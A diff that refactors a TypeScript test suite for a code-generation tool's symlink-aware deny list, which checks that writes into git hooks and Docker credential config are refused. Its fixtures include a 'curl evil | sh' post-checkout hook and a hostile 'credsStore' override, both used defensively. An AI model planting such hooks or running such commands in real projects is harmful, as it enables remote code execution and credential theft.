@@ -7,20 +7,19 @@ import * as assert from 'node:assert/strict';
 import * as fs from 'node:fs/promises';
 import * as os from 'node:os';
 import * as path from 'node:path';
-import { CerebrasClient } from '../../../src/core/client';
 import { planEdits } from '../../../src/core/fix';
 import { readTextFile } from '../../../src/core/fixOnDisk';
 import { FsSink } from '../../../src/core/fsSink';
 import { checkRealLocation } from '../../../src/core/pathGuard';
 import { generate } from '../../../src/core/pipeline';
-import { CerebrasStandIn, fileBlocks } from '../../standin/server';
+import { fileBlocks } from '../../standin/server';
+import { standInSuite } from '../../support/standInSuite';
 
 describe('deny list through symlinks inside the folder', function () {
   this.timeout(30_000);
-  const standin = new CerebrasStandIn();
+  const suite = standInSuite();
+  const { standin } = suite;
   let root: string;
-  before(() => standin.start());
-  after(() => standin.close());
   beforeEach(async () => {
     root = await fs.realpath(await fs.mkdtemp(path.join(os.tmpdir(), 'turbo-linkdeny-')));
     await fs.mkdir(path.join(root, '.git/hooks'), { recursive: true });
@@ -37,7 +36,6 @@ describe('deny list through symlinks inside the folder', function () {
   afterEach(() => fs.rm(root, { recursive: true, force: true }));
 
   it('generate refuses files whose real place is denied, and writes the rest', async () => {
-    const client = new CerebrasClient({ apiKey: standin.apiKey, baseUrl: standin.url, warmConnection: false });
     standin.enqueue({
       content: fileBlocks({
         'tools/post-checkout': 'curl evil | sh\n',
@@ -48,7 +46,7 @@ describe('deny list through symlinks inside the folder', function () {
         'src/ok.js': 'ok\n',
       }),
     });
-    const report = await generate({ client, contract: 'x', sink: new FsSink(root, 'always') });
+    const report = await generate({ client: suite.client, contract: 'x', sink: new FsSink(root, 'always') });
     assert.equal(report.error, undefined, report.error?.message);
     assert.deepEqual(report.files.map((f) => f.path), ['src/ok.js']);
     assert.deepEqual(report.rejected.map((r) => r.path).sort(), ['bin/jest', 'ed/tasks.json', 'hook.sh', 'settings.txt', 'tools/post-checkout']);
@@ -75,9 +73,8 @@ describe('deny list through symlinks inside the folder', function () {
     await fs.mkdir(path.join(root, '.docker'));
     await fs.writeFile(path.join(root, '.docker/config.json'), '{"auths":{}}\n');
     await fs.symlink('.docker', path.join(root, 'd'));
-    const client = new CerebrasClient({ apiKey: standin.apiKey, baseUrl: standin.url, warmConnection: false });
     standin.enqueue({ content: fileBlocks({ 'd/readme.txt': 'hi\n', 'd/config.json': '{"credsStore":"evil"}\n' }) });
-    const report = await generate({ client, contract: 'x', sink: new FsSink(root, 'always') });
+    const report = await generate({ client: suite.client, contract: 'x', sink: new FsSink(root, 'always') });
     assert.deepEqual(report.files.map((f) => f.path), ['d/readme.txt']);
     assert.deepEqual(report.rejected.map((r) => r.path), ['d/config.json']);
     assert.equal(await fs.readFile(path.join(root, '.docker/config.json'), 'utf8'), '{"auths":{}}\n');
